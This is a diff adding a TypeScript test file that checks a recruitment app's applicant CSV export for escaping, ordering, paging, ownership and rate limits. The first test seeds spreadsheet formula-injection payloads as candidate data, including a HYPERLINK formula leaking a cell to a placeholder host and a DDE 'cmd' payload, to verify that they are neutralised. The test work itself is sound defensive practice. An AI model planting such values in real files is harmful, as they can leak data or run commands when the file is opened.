@@ -1,0 +1,157 @@
+import { parse } from 'csv-parse/sync';
+import { expect, test } from 'vitest';
+import { anAdmin } from '../../../seeds/admin-factory.ts';
+import { ratingRow } from '../../../seeds/applicant-tools-factory.ts';
+import { anApplication } from '../../../seeds/application-factory.ts';
+import { aCandidate, candidateRows } from '../../../seeds/candidate-factory.ts';
+import { aColleague } from '../../../seeds/colleague-factory.ts';
+import { aCompany } from '../../../seeds/company-factory.ts';
+import { storeRows } from '../../../seeds/demo/store-rows.ts';
+import { aVacancy } from '../../../seeds/vacancy-factory.ts';
+import { loggedAbout } from '../../../test/logged-about.ts';
+import { type Person, startTestApp } from '../../../test/test-app.ts';
+
+const { app, authorization, db, services } = await startTestApp();
+const padaria = await aCompany(db);
+
+const download = async (vacancy: { id: string }, as: Person, query = '') =>
+  app.inject({
+    url: `/api/user/company/vacancy/applicants-csv/${vacancy.id}?${query}`,
+    headers: await authorization(as),
+  });
+
+const tableOf = (text: string): string[][] =>
+  parse(text, { delimiter: ';', bom: true, record_delimiter: '\r\n' });
+
+test('who applied is a table that Excel opens, in which nobody’s name is a formula', async () => {
+  const vacancy = await aVacancy(db, padaria, { title: 'Padeira "chefe"; São João' });
+  const hostile = [
+    '=HYPERLINK("http://mal.example?"&A1;"Clique")',
+    '+5511',
+    '-2+3',
+    '@SUM(1;2)',
+    '＝1+1',
+    'Ana "Aspas"; Vírgula, Lima',
+    'José\r\nQuebra',
+    'Zoë 👩🏽‍🍳 Çelik',
+  ];
+  for (const name of hostile) {
+    const candidate = await aCandidate(db, {
+      name,
+      phone: '5511987654321',
+      desired_role: "=cmd|'/c calc'!A0",
+    });
+    await anApplication(db, candidate, vacancy, {
+      status: 'Aprovado',
+      comments: '-Comentário\ncom duas linhas',
+      applied_at: '2026-03-02T02:30:00Z',
+    });
+  }
+  const marina = await aColleague(db, padaria, { right: 'Recrutamento' });
+
+  const response = await download(vacancy, marina, 'order=oldest');
+
+  expect(response.headers).toMatchObject({
+    'content-type': 'text/csv; charset=utf-8',
+    'content-disposition': expect.stringMatching(
+      /^attachment; filename="candidatos-padeira-chefe-sao-joao-\d{4}-\d\d-\d\d\.csv"$/,
+    ) as string,
+    'cache-control': 'no-store',
+  });
+  expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+  expect(response.body.split('\r\n')).toHaveLength(hostile.length + 3);
+  const [header = [], ...rows] = tableOf(response.body);
+  expect(header.slice(0, 3)).toEqual(['Nome', 'E-mail', 'Telefone']);
+  // Five of them begin like a formula, and are text now.
+  expect(rows.map(([name]) => name).sort()).toEqual(
+    hostile.map((name, index) => (index < 5 ? `'${name}` : name)).sort(),
+  );
+  for (const row of rows) {
+    expect(row).toHaveLength(header.length);
+    expect(row.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(row.slice(2, 3)).toEqual(['(11) 98765-4321']);
+    expect(row.slice(7, 11)).toEqual([
+      "'=cmd|'/c calc'!A0",
+      'Aprovado',
+      '01/03/2026 23:30',
+      "'-Comentário\ncom duas linhas",
+    ]);
+  }
+  expect(await loggedAbout(db, 'Candidatos exportados')).toEqual([
+    expect.stringContaining('Candidatos exportados: 8, vaga Padeira "chefe"; São João') as string,
+  ]);
+});
+
+test('the table holds whom the list does, in its order: those who hid since, and no banned ones', async () => {
+  const vacancy = await aVacancy(db, padaria);
+  const [ana, bia, caio, davi] = await Promise.all(
+    [
+      { name: 'Ana', state: 'SP' },
+      { name: 'Bia', state: 'SP', visible: false },
+      { name: 'Caio', state: 'SP', banned: true },
+      { name: 'Davi', state: 'RJ' },
+    ].map((person) => aCandidate(db, person)),
+  );
+  for (const candidate of [ana, bia, caio, davi]) if (candidate) await anApplication(db, candidate, vacancy);
+  await db
+    .insertInto('application_rating')
+    .values(ratingRow({ candidate_id: bia?.id ?? '', vacancy_id: vacancy.id }, padaria, 4))
+    .execute();
+  const names = async (query: string) =>
+    tableOf((await download(vacancy, padaria, query)).body)
+      .slice(1)
+      .map((row) => `${row[0]} ${row[12]}`.trim());
+
+  expect(await names('order=rating')).toEqual(['Bia 4', 'Davi', 'Ana']);
+  expect(await names('state=SP&order=oldest')).toEqual(['Ana', 'Bia 4']);
+  expect(await names('status=Aprovado')).toEqual([]);
+});
+
+test('a table of more than is read at once has everybody once', async () => {
+  const vacancy = await aVacancy(db, padaria);
+  const people = await Promise.all(
+    Array.from({ length: 501 }, (_, index) => candidateRows({ name: `P${index}` })),
+  );
+  await db.transaction().execute(async (transaction) => {
+    await storeRows(
+      transaction,
+      'account',
+      people.map(({ account }) => account),
+    );
+    await storeRows(
+      transaction,
+      'candidate',
+      people.map(({ candidate }) => candidate),
+    );
+    await storeRows(
+      transaction,
+      'application',
+      people.map(({ candidate }, slot) => ({
+        candidate_id: candidate.id,
+        vacancy_id: vacancy.id,
+        id: candidate.id,
+        applied_day: '2026-03-02',
+        slot: (slot % 10) + 1,
+      })),
+    );
+  });
+  for (const order of ['newest', 'match'])
+    expect(
+      new Set(tableOf((await download(vacancy, padaria, `order=${order}`)).body).map(([name]) => name)).size,
+    ).toBe(502);
+});
+
+test('only the company itself exports, and not without end', async () => {
+  const vacancy = await aVacancy(db, padaria);
+  const codeOf = async (as: Person, query = '') =>
+    (await download(vacancy, as, query)).json<{ code: string }>().code;
+
+  expect(await codeOf(await aCompany(db))).toBe('not_owner');
+  expect(await codeOf(await aCandidate(db))).toBe('wrong_role');
+  expect(await codeOf(await anAdmin(db))).toBe('wrong_role');
+  expect(await codeOf(padaria, 'order=salary')).toBe('invalid_input');
+  for (let counted = 0; counted < 30; counted += 1)
+    await services.rateLimits.tryConsume('applicantExport', padaria.id);
+  const refused = await download(vacancy, padaria);
+  expect([refused.statusCode, refused.json<{ code: string }>().code]).toEqual([429, 'too_many_requests']);
+});
